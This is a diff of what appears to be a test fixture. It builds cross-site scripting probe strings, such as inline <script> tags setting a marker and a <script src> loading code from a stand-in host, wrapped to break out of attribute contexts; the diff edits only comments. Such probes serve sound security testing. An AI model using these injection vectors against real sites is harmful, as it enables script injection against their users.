@@ -1,7 +1,7 @@
 const run = 'window.ran=1'
 const elsewhere = '//elsewhere.example/x'
 
-/** Ways to bring a script, or a request to elsewhere, into a page through a text. */
+/** Ways to bring a script, or a request to elsewhere, into a page by a text. */
 const vectors = [
   `<script>${run}</script>`,
   `<script src=${elsewhere}></script>`,
@@ -45,7 +45,7 @@ const vectors = [
   `\${${run}}`,
 ]
 
-/** What a text may be inside of. */
+/** Contexts of a text. */
 const ways: ((vector: string) => string)[] = [
   (vector) => vector,
   (vector) => `"'>${vector}`,
@@ -55,8 +55,8 @@ const ways: ((vector: string) => string)[] = [
 ]
 
 /**
- * Two hundred texts, no two alike; should one be taken for markup, `window.ran` is set or elsewhere is
- * asked. Each begins with its own mark, by which it is found on a screen.
+ * Two hundred different texts; if one is taken for markup, `window.ran` is set or another site gets
+ * a request. Each begins with its own mark, by which a screen is searched.
  */
 export const payloads = ways
   .flatMap((way) => vectors.map(way))
